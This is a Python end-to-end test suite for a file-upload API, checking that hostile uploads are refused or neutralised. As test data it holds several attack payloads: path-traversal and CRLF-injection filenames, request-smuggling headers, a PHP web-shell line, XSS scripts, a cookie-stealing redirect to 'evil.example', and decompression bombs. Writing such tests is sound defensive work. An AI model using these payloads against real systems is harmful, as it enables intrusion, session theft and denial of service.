"""Hostile input over real sockets: each request is refused with the right problem (or its
names and bytes made harmless), nothing of a refused request is kept, and the server
answers ``/healthz`` at once afterwards."""

from __future__ import annotations

import base64
import hashlib
import io
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import psutil
import pytest
from PIL import ExifTags, Image

from tests import imagegen
from tests.conftest import Server, ServerFactory
from tests.helpers import (
    BOUNDARY,
    MULTIPART_TYPE,
    Part,
    assert_healthy,
    assert_nothing_stored,
    assert_problem,
    blob_files,
    exchange,
    file_part,
    multipart,
    request_head,
    sha256,
    task_of,
    thumbnail_dir,
    wait_done,
    wait_for,
)
from uploads_api.config import DEFAULT_IMAGE_FORMATS
from uploads_api.media import images

pytestmark = pytest.mark.e2e

UVICORN_400 = b"Invalid HTTP request received."


def post_multipart(
    client: httpx.Client, *parts: Part, headers: dict[str, str] | None = None
) -> httpx.Response:
    return client.post(
        "/v1/files",
        content=multipart(*parts),
        headers={"Content-Type": MULTIPART_TYPE, **(headers or {})},
    )


def assert_no_thumbnail(server: Server, client: httpx.Client, record: dict[str, Any]) -> None:
    assert record["thumbnails"] == []
    assert client.get(f"/v1/files/{record['id']}/thumbnails/256").status_code == 404
    assert not thumbnail_dir(server, record["id"]).exists()


# Servers -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(module_server_factory: ServerFactory) -> Server:
    """Refusals only: nothing may ever be stored on this server."""
    return module_server_factory(body_timeout=2)


@pytest.fixture(scope="module")
def accepting(shared_server: Server) -> Server:
    """Hostile files that are stored, and must be made harmless."""
    return shared_server


@pytest.fixture
def http(shared_client: httpx.Client) -> httpx.Client:
    return shared_client


# Refusals: one table, each case checked the same way -----------------------------------------


@dataclass(frozen=True)
class Refusal:
    head: bytes
    body: bytes
    status: int
    code: str | None  # None: uvicorn refuses the HTTP itself, before the app sees it
    within: float = 1.0  # seconds to the answer
    extra: dict[str, Any] = field(default_factory=dict)


def _post(
    body: bytes, *, content_type: str = MULTIPART_TYPE, length: int | None = None, **kw: Any
) -> bytes:
    return request_head(
        "POST",
        "/v1/files",
        content_type=content_type,
        length=len(body) if length is None else length,
        **kw,
    )


def _put(name: str, body: bytes, *, length: int | None = None, **kw: Any) -> bytes:
    return request_head(
        "PUT",
        f"/v1/files/{name}",
        content_type="application/octet-stream",
        length=len(body) if length is None else length,
        **kw,
    )


SMALL = multipart(file_part())
TRUNCATED = multipart(file_part(b"x" * 5000, "cut.bin"), file_part(b"y" * 5000, "b.bin"))[:7000]
JUNK = b"junk " * (800 * 1024) + SMALL  # 4 MB before the first boundary
MANY_FILES = multipart(*(file_part(b"x", f"f{i}.txt") for i in range(1001)))
MANY_FIELDS = multipart(*(Part(f"f{i}", b"v") for i in range(5000)), file_part())
BIG_FIELD = multipart(file_part(), Part("big", b"z" * (50 * 1024 * 1024)))
MANY_HEADERS = multipart(
    Part("file", b"x", "a.txt", headers=tuple(f"X-H{i}: v" for i in range(50)))
)
BIG_HEADER = multipart(Part("file", b"x", "a.txt", headers=("X-Big: " + "b" * 20_000,)))
NO_HEADERS = f"--{BOUNDARY}\r\n\r\nhello\r\n--{BOUNDARY}--\r\n".encode()
DATA = b"0123456789" * 100
CHUNKED = b"%x\r\n" % len(DATA) + DATA + b"\r\n0\r\n\r\n"
WRONG_DIGEST = "sha-256=:" + base64.b64encode(hashlib.sha256(b"other").digest()).decode() + ":"
FULL_DIGEST = "sha-256=:" + base64.b64encode(hashlib.sha256(DATA).digest()).decode() + ":"
SHA_FIELD_MISMATCH = multipart(Part("sha256", b"0" * 64), file_part(b"the real bytes"))


def _redos(backslashes: int) -> str:
    return 'multipart/form-data; boundary="' + "\\" * backslashes + "a"


REFUSALS: dict[str, Refusal] = {
    # 1. A boundary built to make a backtracking parser spin.
    "boundary-redos": Refusal(
        _post(SMALL, content_type=_redos(40)), SMALL, 400, "malformed-multipart"
    ),
    "boundary-redos-long": Refusal(
        _post(SMALL, content_type=_redos(4000)), SMALL, 400, "malformed-multipart"
    ),
    # 2. Refused at the first bytes, without reading the megabytes.
    "junk-before-first-boundary": Refusal(_post(JUNK), JUNK, 400, "malformed-multipart"),
    # 3.
    "too-many-part-headers": Refusal(_post(MANY_HEADERS), MANY_HEADERS, 400, "malformed-multipart"),
    "oversized-part-header": Refusal(_post(BIG_HEADER), BIG_HEADER, 400, "malformed-multipart"),
    # 5.
    "1001-file-parts": Refusal(
        _post(MANY_FILES), MANY_FILES, 400, "too-many-parts", extra={"limit": 100}
    ),
    "5000-tiny-fields": Refusal(
        _post(MANY_FIELDS), MANY_FIELDS, 400, "too-many-parts", extra={"limit": 1000}
    ),
    "50mb-field": Refusal(
        _post(BIG_FIELD), BIG_FIELD, 413, "field-too-large", extra={"limit": 64 * 1024}
    ),
    # 6.
    "missing-boundary": Refusal(
        _post(SMALL, content_type="multipart/form-data"), SMALL, 400, "malformed-multipart"
    ),
    "missing-closing-delimiter": Refusal(
        _post(SMALL[: -len(f"--{BOUNDARY}--\r\n")]),
        SMALL[: -len(f"--{BOUNDARY}--\r\n")],
        400,
        "malformed-multipart",
    ),
    "truncated-body": Refusal(_post(TRUNCATED), TRUNCATED, 400, "malformed-multipart"),
    "part-without-headers": Refusal(_post(NO_HEADERS), NO_HEADERS, 400, "malformed-multipart"),
    "not-multipart": Refusal(
        _post(b'{"a": 1}', content_type="application/json"),
        b'{"a": 1}',
        415,
        "unsupported-media-type",
    ),
    # 13. Content-Length lies. What uvicorn (httptools) does, precisely:
    # - keep-alive, body longer than announced: the surplus is parsed as the next request,
    #   uvicorn answers its own text/plain 400 and closes; the upload sees a disconnect.
    "multipart-length-shorter-keep-alive": Refusal(
        _post(SMALL, length=len(SMALL) - 20) + SMALL, b"", 400, None
    ),
    "put-length-shorter-keep-alive": Refusal(
        _put("short.bin", DATA, length=500) + DATA, b"", 400, None
    ),
    # - Connection: close, multipart: the app reads the announced bytes, which lack the
    #   closing boundary.
    "multipart-length-shorter-close": Refusal(
        _post(SMALL, length=len(SMALL) - 20, headers=("Connection: close",)),
        SMALL,
        400,
        "malformed-multipart",
    ),
    # - Connection: close, raw PUT: only a Content-Digest can tell (see the test below).
    "put-length-shorter-close-with-digest": Refusal(
        _put(
            "short.bin",
            DATA,
            length=500,
            headers=("Connection: close", f"Content-Digest: {FULL_DIGEST}"),
        ),
        DATA,
        400,
        "checksum-mismatch",
    ),
    # - body shorter than announced: the app waits for the rest until the body timeout.
    "put-length-longer": Refusal(
        _put("long.bin", DATA, length=len(DATA) * 5), DATA, 408, "body-timeout", within=4
    ),
    # - Content-Length and Transfer-Encoding together (request smuggling): uvicorn's 400.
    "put-length-and-chunked": Refusal(
        _put("te.bin", CHUNKED, length=len(DATA), headers=("Transfer-Encoding: chunked",)),
        CHUNKED,
        400,
        None,
    ),
    "post-length-and-chunked": Refusal(
        _post(SMALL, headers=("Transfer-Encoding: chunked",)),
        b"%x\r\n" % len(SMALL) + SMALL + b"\r\n0\r\n\r\n",
        400,
        None,
    ),
    # 14. A client checksum that does not match.
    "put-content-digest-mismatch": Refusal(
        _put("a.bin", DATA, headers=(f"Content-Digest: {WRONG_DIGEST}",)),
        DATA,
        400,
        "checksum-mismatch",
    ),
    "multipart-sha256-field-mismatch": Refusal(
        _post(SHA_FIELD_MISMATCH), SHA_FIELD_MISMATCH, 400, "checksum-mismatch"
    ),
}


@pytest.mark.parametrize("case", list(REFUSALS))
def test_hostile_requests_are_refused_and_leave_nothing(hostile: Server, case: str) -> None:
    refusal = REFUSALS[case]
    response = exchange(hostile, refusal.head, refusal.body)
    assert response.elapsed < refusal.within, f"answered after {response.elapsed:.2f}s"
    if refusal.code is None:
        # Refused by the HTTP layer: plain text, and the connection is closed.
        assert response.status_code == refusal.status
        assert response.headers["content-type"].startswith("text/plain")
        assert response.headers["connection"] == "close"
        assert response.content == UVICORN_400
    else:
        problem = assert_problem(response, refusal.status, refusal.code)
        for name, value in refusal.extra.items():
            assert problem[name] == value
    assert_nothing_stored(hostile)
    assert_healthy(hostile)


def test_a_shorter_content_length_on_a_raw_put_is_only_caught_by_a_digest(
    accepting: Server, http: httpx.Client
) -> None:
    """A known limit: with ``Connection: close`` the server reads the announced bytes and
    cannot know more were meant. It stores exactly those, never the surplus; the
    ``Content-Digest`` case above is refused."""
    head = _put("short.bin", DATA, length=500, headers=("Connection: close",))
    response = exchange(accepting, head, DATA)
    assert response.status_code == 201, response.content
    record = response.json()
    assert (record["size"], record["sha256"]) == (500, sha256(DATA[:500]))
    assert http.get(record["links"]["content"]).content == DATA[:500]
    assert_healthy(accepting)


# Names ---------------------------------------------------------------------------------------


def test_a_5000_character_filename_is_cut_to_255_bytes(
    accepting: Server, http: httpx.Client
) -> None:
    name = "\u00e9" * 4995 + ".jpeg"  # two bytes per character: 9,995 bytes
    response = post_multipart(http, Part("file", b"long name", name))
    assert response.status_code == 201, response.text
    (record,) = response.json()["files"]
    cleaned = record["filename"]
    assert len(cleaned.encode()) <= 255
    assert cleaned.endswith(".jpeg") and set(cleaned[:-5]) == {"\u00e9"}
    assert len(cleaned.encode()) > 240, "cut close to the limit, not emptied"
    disposition = http.get(record["links"]["content"]).headers["content-disposition"]
    assert f"filename*=UTF-8''{quote(cleaned, safe='')}" in disposition
    assert_healthy(accepting)


@pytest.mark.parametrize(
    "disposition",
    [
        'form-data; name="file"; filename="safe.jpg"; filename*=UTF-8\'\'evil.php',
        'form-data; name="file"; filename*=UTF-8\'\'evil.php; filename="safe.jpg"',
    ],
    ids=["filename-first", "filename-star-first"],
)
def test_the_plain_filename_wins_over_filename_star(
    accepting: Server, http: httpx.Client, disposition: str
) -> None:
    response = post_multipart(http, Part("file", b"<?php echo 1; ?>", disposition=disposition))
    assert response.status_code == 201, response.text
    (record,) = response.json()["files"]
    assert record["filename"] == "safe.jpg"
    download = http.get(record["links"]["content"])
    assert "evil" not in download.headers["content-disposition"]
    assert_healthy(accepting)


MULTIPART_NAMES = {
    "dot-dot-slash": ("../../etc/passwd", "passwd"),
    "absolute-path": ("/etc/passwd", "passwd"),
    "windows-path": ("C:\\Windows\\System32\\evil.dll", "evil.dll"),
    "nul": ("a\x00b.txt", "ab.txt"),
    "line-feed": ("line\nbreak.txt", "linebreak.txt"),
    "right-to-left-override": ("\u202egpj.exe", "gpj.exe"),
    "only-dots": ("....", "upload"),
    "windows-device": ("CON", "_CON"),
    "windows-device-with-extension": ("LPT1.txt", "_LPT1.txt"),
}
PUT_NAMES = {
    "put-crlf-header-injection": ("a%0D%0ASet-Cookie:%20x=1.txt", "aSet-Cookie: x=1.txt"),
    "put-nul": ("a%00b.txt", "ab.txt"),
    "put-right-to-left-override": ("%E2%80%AEgpj.exe", "gpj.exe"),
    "put-only-dots": ("...", "upload"),
    "put-windows-device": ("nul.txt", "_nul.txt"),
    "put-quote-and-backslash": ("q%22uo%5Cte.txt", "te.txt"),
}


def _assert_safe_download(
    server: Server, http: httpx.Client, record: dict[str, Any], name: str
) -> None:
    file_id = record["id"]
    assert record["filename"] == name
    # Stored under the server's id, never under anything the client said.
    blob = server.data_dir / "blobs" / "originals" / file_id[:2] / file_id
    assert blob.is_file()
    assert not any(p.name in ("passwd", "evil.dll") for p in server.data_dir.rglob("*"))
    download = http.get(record["links"]["content"])
    raw = dict(download.headers.raw)[b"content-disposition"]
    assert all(0x20 <= byte < 0x7F for byte in raw), raw
    ascii_name = raw.split(b'filename="', 1)[1].split(b'"', 1)[0]
    assert raw.startswith(b'attachment; filename="')
    assert b"\\" not in ascii_name
    assert raw.endswith(b"filename*=UTF-8''" + quote(name, safe="").encode())
    assert download.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("case", list(MULTIPART_NAMES))
def test_hostile_multipart_names_are_cleaned(
    accepting: Server, http: httpx.Client, case: str
) -> None:
    raw_name, cleaned = MULTIPART_NAMES[case]
    response = post_multipart(http, Part("file", b"named", raw_name))
    assert response.status_code == 201, response.text
    _assert_safe_download(accepting, http, response.json()["files"][0], cleaned)
    assert_healthy(accepting)


@pytest.mark.parametrize("case", list(PUT_NAMES))
def test_hostile_raw_put_names_are_cleaned(
    accepting: Server, http: httpx.Client, case: str
) -> None:
    raw_name, cleaned = PUT_NAMES[case]
    head = _put(raw_name, b"named", headers=("Connection: close",))
    response = exchange(accepting, head, b"named")
    assert response.status_code == 201, response.content
    _assert_safe_download(accepting, http, response.json(), cleaned)
    assert_healthy(accepting)


@pytest.mark.parametrize("path", ["..%2F..%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd", "a%2F..%2Fb"])
def test_a_slash_in_a_raw_put_name_matches_no_route(
    accepting: Server, http: httpx.Client, path: str
) -> None:
    before = len(blob_files(accepting))
    head = _put(path, b"x", headers=("Connection: close",))
    assert_problem(exchange(accepting, head, b"x"), 404, "not-found")
    assert len(blob_files(accepting)) == before
    assert accepting.temp_files() == []
    assert_healthy(accepting)


# Types ---------------------------------------------------------------------------------------


def _psd(width: int = 8, height: int = 8) -> bytes:
    """A minimal RGB Photoshop file, raw pixel data: Pillow reads it, but cannot write it."""
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3)
    empty_sections = struct.pack(">III", 0, 0, 0)
    return header + empty_sections + struct.pack(">H", 0) + bytes(width * height * 3)


def _fits(width: int = 8, height: int = 8) -> bytes:
    """A minimal FITS image: 2880-byte header of 80-character cards, then the data."""
    cards = [
        "SIMPLE  =                    T",
        "BITPIX  =                    8",
        "NAXIS   =                    2",
        f"NAXIS1  = {width:>20}",
        f"NAXIS2  = {height:>20}",
        "END",
    ]
    header = "".join(card.ljust(80) for card in cards).ljust(2880).encode()
    return header + bytes(width * height).ljust(2880, b"\x00")


def _pillow(fmt: str, **params: Any) -> bytes:
    out = io.BytesIO()
    imagegen.gradient((32, 24)).save(out, fmt, **params)
    return out.getvalue()


SPOOFED = {
    "php": (b"<?php system($_GET['c']); ?>\n", "text/plain"),
    "html": (b"<!doctype html><html><script>alert(1)</script></html>", "text/html"),
    "svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/svg+xml",
    ),
}
UNLISTED_FORMATS: dict[str, tuple[Callable[[], bytes], str]] = {
    "eps": (lambda: _pillow("EPS"), "text/plain"),  # PostScript is text
    "psd": (_psd, "image/vnd.adobe.photoshop"),
    "fits": (_fits, "image/fits"),
    "jpeg-2000": (lambda: _pillow("JPEG2000"), "image/jp2"),
}


def upload_as_png(http: httpx.Client, data: bytes, name: str = "picture.png") -> dict[str, Any]:
    response = http.post("/v1/files", files={"file": (name, data, "image/png")})
    assert response.status_code == 201, response.text
    record: dict[str, Any] = response.json()["files"][0]
    return record


@pytest.mark.parametrize("case", list(SPOOFED))
def test_spoofed_types_are_sniffed_and_never_thumbnailed(
    accepting: Server, http: httpx.Client, case: str
) -> None:
    data, sniffed = SPOOFED[case]
    record = wait_done(http, upload_as_png(http, data)["id"])
    assert record["content_type"] == sniffed != "image/png"
    assert task_of(record, "thumbnails")["state"] == "skipped"
    assert "image" not in record["metadata"]
    assert_no_thumbnail(accepting, http, record)
    assert_healthy(accepting)


@pytest.mark.parametrize("case", list(UNLISTED_FORMATS))
def test_formats_off_the_allowlist_are_stored_but_never_decoded(
    accepting: Server, http: httpx.Client, case: str
) -> None:
    make, sniffed = UNLISTED_FORMATS[case]
    data = make()
    record = wait_done(http, upload_as_png(http, data)["id"])
    assert record["content_type"] == sniffed
    assert record["status"] == "ready"
    thumbnails = task_of(record, "thumbnails")
    assert (thumbnails["state"], thumbnails["error"]) == ("skipped", f"no thumbnails for {sniffed}")
    assert "image" not in record["metadata"], "metadata did not decode it either"
    assert_no_thumbnail(accepting, http, record)
    assert http.get(record["links"]["content"]).content == data
    assert_healthy(accepting)


def test_a_tiff_named_png_is_decoded_as_the_tiff_it_is(
    accepting: Server, http: httpx.Client
) -> None:
    record = wait_done(http, upload_as_png(http, _pillow("TIFF"))["id"])
    assert record["content_type"] == "image/tiff"
    assert record["status"] == "ready"
    assert record["metadata"]["image"]["format"] == "TIFF"
    assert [t["size"] for t in record["thumbnails"]] == [256, 1024]


@pytest.mark.parametrize(
    ("make", "allowed", "name"),
    [
        (_psd, DEFAULT_IMAGE_FORMATS, "PSD"),
        (lambda: _pillow("JPEG2000"), DEFAULT_IMAGE_FORMATS, "JPEG2000"),
        (lambda: _pillow("TIFF"), ("JPEG", "PNG"), "TIFF"),
    ],
    ids=["psd", "jpeg-2000", "tiff-off-the-list"],
)
def test_the_decoder_itself_refuses_formats_off_the_list(
    tmp_path: Path, make: Callable[[], bytes], allowed: tuple[str, ...], name: str
) -> None:
    """Defence in depth: even if a file reached the decoder, Pillow would only open it."""
    source = tmp_path / "source.png"
    source.write_bytes(make())
    message = f"format {name} is not accepted for decoding"
    with pytest.raises(images.ImageError, match=message):
        images.read_image_metadata(str(source), allowed)
    with pytest.raises(images.ImageError, match=message):
        images.make_thumbnails(str(source), str(tmp_path), (256,), "webp", allowed)
    assert list(tmp_path.iterdir()) == [source]


@pytest.fixture(scope="module")
def narrow(module_server_factory: ServerFactory) -> Server:
    return module_server_factory(image_formats="JPEG,PNG", allowed_types="image/*")


def test_with_image_formats_jpeg_png_a_tiff_is_stored_but_never_decoded(narrow: Server) -> None:
    with httpx.Client(base_url=narrow.url, timeout=60) as http:
        tiff = _pillow("TIFF")
        record = wait_done(http, upload_as_png(http, tiff)["id"])
        assert record["content_type"] == "image/tiff"
        thumbnails = task_of(record, "thumbnails")
        assert (thumbnails["state"], thumbnails["error"]) == (
            "skipped",
            "no thumbnails for image/tiff",
        )
        assert "image" not in record["metadata"]
        assert_no_thumbnail(narrow, http, record)
        assert http.get(record["links"]["content"]).content == tiff
    assert_healthy(narrow)


def test_allowed_types_image_refuses_a_text_file(narrow: Server) -> None:
    with httpx.Client(base_url=narrow.url, timeout=60) as http:
        before_files = http.get("/v1/files").json()["files"]
        before_blobs = blob_files(narrow)
        text = b"just words, not a picture\n" * 400  # past the 4 KiB sniffing head
        response = http.post("/v1/files", files={"file": ("notes.png", text, "image/png")})
        problem = assert_problem(response, 415, "unsupported-media-type")
        assert problem["content_type"] == "text/plain"
        assert http.get("/v1/files").json()["files"] == before_files
    assert blob_files(narrow) == before_blobs
    assert narrow.temp_files() == []
    assert_healthy(narrow)


# Bombs, broken images, active content --------------------------------------------------------


def _gif_bomb() -> bytes:
    """A one-pixel frame on a 65535 x 65535 logical screen: 4.3 gigapixels to allocate."""
    screen = struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    frame = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00" + b"\x02\x02D\x01\x00"
    return b"GIF89a" + screen + frame + b";"


def _tree_rss(pid: int) -> int:
    try:
        root = psutil.Process(pid)
        processes = [root, *root.children(recursive=True)]
    except psutil.NoSuchProcess:
        return 0
    total = 0
    for process in processes:
        try:
            total += process.memory_info().rss
        except psutil.NoSuchProcess:
            continue
    return total


@pytest.mark.parametrize(
    "make",
    [lambda tmp: imagegen.decompression_bomb_png(tmp).read_bytes(), lambda tmp: _gif_bomb()],
    ids=["png-20000x20000-1-bit", "gif-65535x65535-screen"],
)
def test_decompression_bombs_fail_at_once_in_bounded_memory(
    accepting: Server, http: httpx.Client, tmp_path: Path, make: Callable[[Path], bytes]
) -> None:
    assert accepting.process is not None
    pid = accepting.process.pid
    data = make(tmp_path)
    peak = 0
    stop = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not stop.is_set():
            peak = max(peak, _tree_rss(pid))
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        started = time.monotonic()
        record = wait_done(http, upload_as_png(http, data, "bomb.png")["id"])
        took = time.monotonic() - started
    finally:
        stop.set()
        sampler.join()
    assert record["status"] == "failed"
    for name in ("metadata", "thumbnails"):
        task = task_of(record, name)
        assert (task["state"], task["attempts"]) == ("failed", 1), task
        assert "image is too large" in task["error"]
        assert "exceeds the limit of 100000000" in task["error"]
    assert took < 10
    assert_no_thumbnail(accepting, http, record)
    assert 0 < peak < 1024**3, f"server and workers peaked at {peak / 1024**2:.0f} MiB"
    assert_healthy(accepting)


def _corrupt_png() -> bytes:
    good = _pillow("PNG")
    start = good.index(b"IDAT") + 4
    return good[:start] + bytes(b ^ 0x5A for b in good[start : start + 200]) + good[start + 200 :]


def _png_without_end(tmp: Path) -> bytes:
    data = _pillow("PNG")
    return data[: data.index(b"IDAT") + 30]


BROKEN: dict[str, Callable[[Path], bytes]] = {
    "truncated-jpeg": lambda tmp: imagegen.truncated_jpeg(tmp).read_bytes(),
    "truncated-png": _png_without_end,
    "corrupt-png-data": lambda tmp: _corrupt_png(),
    "png-signature-then-garbage": lambda tmp: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_broken_images_fail_with_a_readable_error_and_no_thumbnail(
    accepting: Server, http: httpx.Client, tmp_path: Path, case: str
) -> None:
    record = wait_done(http, upload_as_png(http, BROKEN[case](tmp_path))["id"])
    assert record["status"] == "failed"
    thumbnails = task_of(record, "thumbnails")
    assert (thumbnails["state"], thumbnails["attempts"]) == ("failed", 1), thumbnails
    assert thumbnails["error"].startswith(
        ("image is truncated or corrupt", "file is not an image")
    ), thumbnails["error"]
    assert "Traceback" not in thumbnails["error"]
    assert_no_thumbnail(accepting, http, record)
    work = accepting.data_dir / "tmp" / "work" / record["id"]
    wait_for(lambda: not work.exists(), what="the scratch space to be cleaned up")
    assert_healthy(accepting)


ACTIVE = {
    "svg-with-script": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>fetch('/v1/files').then(r => r.text()).then(alert)</script></svg>",
        "image/svg+xml",
    ),
    "html-page": (
        b"<!doctype html><html><body><script>document.location='//evil.example/'"
        b"+document.cookie</script></body></html>",
        "text/html",
    ),
    "html-gif-polyglot": (
        b"GIF89a<html><body><script>alert(document.cookie)</script></body></html>",
        "image/gif",
    ),
}


@pytest.mark.parametrize("case", list(ACTIVE))
def test_active_content_is_a_sandboxed_attachment_without_thumbnail(
    accepting: Server, http: httpx.Client, case: str
) -> None:
    data, sniffed = ACTIVE[case]
    record = wait_done(http, upload_as_png(http, data, "innocent.png")["id"])
    assert record["content_type"] == sniffed
    assert task_of(record, "thumbnails")["state"] in ("skipped", "failed")
    assert_no_thumbnail(accepting, http, record)
    download = http.get(record["links"]["content"])
    assert download.content == data
    # A type a browser would run or render as a page goes as plain bytes; the record keeps
    # the sniffed type.
    served = "image/gif" if sniffed == "image/gif" else "application/octet-stream"
    assert download.headers["content-type"].split(";")[0] == served
    assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in download.headers["content-security-policy"]
    assert_healthy(accepting)


def test_ten_thousand_ranges_are_answered_fast(accepting: Server, http: httpx.Client) -> None:
    assert accepting.process is not None
    data = bytes(range(256)) * 400
    record = http.put("/v1/files/ranges.bin", content=data).json()
    ranges = "bytes=" + ",".join(f"{i * 10}-{i * 10 + 4}" for i in range(10_000))
    server = psutil.Process(accepting.process.pid)
    cpu_before = sum(server.cpu_times()[:2])
    started = time.monotonic()
    response = http.get(record["links"]["content"], headers={"Range": ranges})
    took = time.monotonic() - started
    cpu = sum(server.cpu_times()[:2]) - cpu_before
    # Several ranges are answered with the whole file, which costs nothing to work out.
    assert (response.status_code, response.content) == (200, data)
    assert took < 1, f"{took:.2f}s"
    assert cpu < 0.5, f"the server spent {cpu:.2f}s of CPU on it"
    assert_healthy(accepting)


# Checksums, empty files, EXIF ----------------------------------------------------------------


@pytest.mark.parametrize("how", ["put-content-digest", "multipart-sha256-field"])
def test_a_matching_checksum_is_verified(accepting: Server, http: httpx.Client, how: str) -> None:
    data = b"bytes the client hashed first\n" * 100
    if how == "put-content-digest":
        digest = base64.b64encode(hashlib.sha256(data).digest()).decode()
        response = http.put(
            "/v1/files/checked.txt", content=data, headers={"Content-Digest": f"sha-256=:{digest}:"}
        )
        assert response.status_code == 201, response.text
        record = response.json()
    else:
        response = post_multipart(
            http, Part("sha256", sha256(data).encode()), file_part(data, "checked.txt")
        )
        assert response.status_code == 201, response.text
        (record,) = response.json()["files"]
    assert (record["checksum_verified"], record["sha256"]) == (True, sha256(data))
    unchecked = http.put("/v1/files/plain.txt", content=data).json()
    assert unchecked["checksum_verified"] is False
    assert_healthy(accepting)


def test_a_zero_byte_file_is_accepted_and_never_decoded(
    accepting: Server, http: httpx.Client
) -> None:
    response = http.post("/v1/files", files={"file": ("empty.png", b"", "image/png")})
    assert response.status_code == 201, response.text
    record = wait_done(http, response.json()["files"][0]["id"])
    assert (record["size"], record["content_type"], record["status"]) == (
        0,
        "application/x-empty",
        "ready",
    )
    assert record["metadata"]["empty"] is True
    assert "image" not in record["metadata"]
    assert task_of(record, "thumbnails")["state"] == "skipped"
    assert_no_thumbnail(accepting, http, record)
    assert http.get(record["links"]["content"]).content == b""
    assert_healthy(accepting)


SCRIPT = "<script>alert(document.domain)</script>"


def _jpeg_with_hostile_exif() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = SCRIPT
    exif[ExifTags.Base.Model] = '"><img src=x onerror=alert(1)>'
    exif[ExifTags.Base.ImageDescription] = SCRIPT
    imagegen._gps_exif(exif, *imagegen.EIFFEL_TOWER)
    out = io.BytesIO()
    imagegen.gradient((640, 480)).save(out, "JPEG", exif=exif, quality=85)
    return out.getvalue()


def test_exif_with_script_and_gps_stays_data(accepting: Server, http: httpx.Client) -> None:
    data = _jpeg_with_hostile_exif()
    assert SCRIPT.encode() in data
    record_id = upload_as_png(http, data, "photo.jpg")["id"]
    wait_done(http, record_id)
    response = http.get(f"/v1/files/{record_id}")
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    record = response.json()
    assert record["status"] == "ready"
    exif = record["metadata"]["image"]["exif"]
    assert exif["make"] == SCRIPT, "kept as data, exactly"
    assert exif["gps"]["latitude"] == pytest.approx(imagegen.EIFFEL_TOWER[0], abs=1e-3)
    assert [t["size"] for t in record["thumbnails"]] == [256, 1024]
    for thumb in record["thumbnails"]:
        got = http.get(thumb["url"])
        assert got.headers["content-type"] == "image/webp"
        assert b"script" not in got.content and b"Exif" not in got.content
        assert b"EXIF" not in got.content and b"XMP " not in got.content
        image = Image.open(io.BytesIO(got.content))
        assert not image.getexif()
        assert not {"exif", "xmp", "icc_profile"} & set(image.info)
    page = http.get("/")
    assert page.headers["content-type"].startswith("text/html")
    assert SCRIPT not in page.text
    assert_healthy(accepting)
